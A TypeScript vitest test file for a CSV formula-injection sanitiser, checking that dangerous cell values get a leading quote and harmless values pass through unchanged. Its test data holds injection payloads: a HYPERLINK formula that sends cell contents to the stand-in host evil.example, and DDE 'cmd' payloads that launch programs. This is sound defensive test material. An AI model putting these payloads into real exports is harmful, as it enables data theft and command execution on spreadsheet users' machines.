import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvSafe, stringifyCsv } from './csv-safe.ts';

/** Values that would run as a formula if a spreadsheet read them raw. */
const DANGEROUS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '-2+3',
  '\t=1+1',
  '\r=1+1',
  '\0=1+1',
  '+',
  '-',
  '=',
];
/** Values that must come out exactly as they went in. */
const HARMLESS = ['-2.5', '+3', '-0.75', '-1.25', '0', '87.42', 'Khá', 'Sở Tư pháp', "'=already quoted", 'a=b', 'x-1', ''];

describe('csvSafe (OWASP CSV injection)', () => {
  it.each(DANGEROUS)('prefixes %j with a single quote', (v) => {
    expect(csvSafe(v)).toBe(`'${v}`);
  });

  it.each(HARMLESS)('leaves %j alone', (v) => {
    expect(csvSafe(v)).toBe(v);
  });

  it('treats only strict decimal numbers as numbers', () => {
    for (const v of ['-1e3', '-1.', '-.5', '- 2', '-2.5 ', '+0x10', '-Infinity', '-NaN', '-2,5', '--2']) expect(csvSafe(v)).toBe(`'${v}`);
  });
});

describe('stringifyCsv', () => {
  it('neutralises every dangerous cell, keeps harmless ones and numbers, and reads back cell for cell', () => {
    const rows = [
      ['value', 'n'],
      ...DANGEROUS.map((v, i) => [v, -i - 0.5]),
      ...HARMLESS.map((v, i) => [v, i]),
    ];
    const back: string[][] = parse(stringifyCsv(rows), { relax_column_count: false });
    expect(back).toHaveLength(rows.length);
    DANGEROUS.forEach((v, i) => expect(back[1 + i]).toEqual([`'${v}`, String(-i - 0.5)]));
    HARMLESS.forEach((v, i) => expect(back[1 + DANGEROUS.length + i]).toEqual([v, String(i)]));
    // Numbers stay numbers: no quote in front of a negative figure.
    expect(back[1][1]).toBe('-0.5');
    expect(Number(back[2][1])).toBe(-1.5);
  });

  it('does not let a separator or a quote inside a value start a new cell', () => {
    const v = 'x",=HYPERLINK("http://evil.example","x"),\n-2+3';
    const back: string[][] = parse(stringifyCsv([[v, 'next']]));
    expect(back).toEqual([[v, 'next']]);
  });

  it('neutralises objects (written as JSON), a number that is not a plain decimal, and keeps dates and booleans as csv-stringify writes them', () => {
    const back: string[][] = parse(stringifyCsv([[{ a: 1 }, -Infinity, true, null, undefined]]));
    expect(back).toEqual([['{"a":1}', "'-Infinity", '1', '', '']]);
  });
});
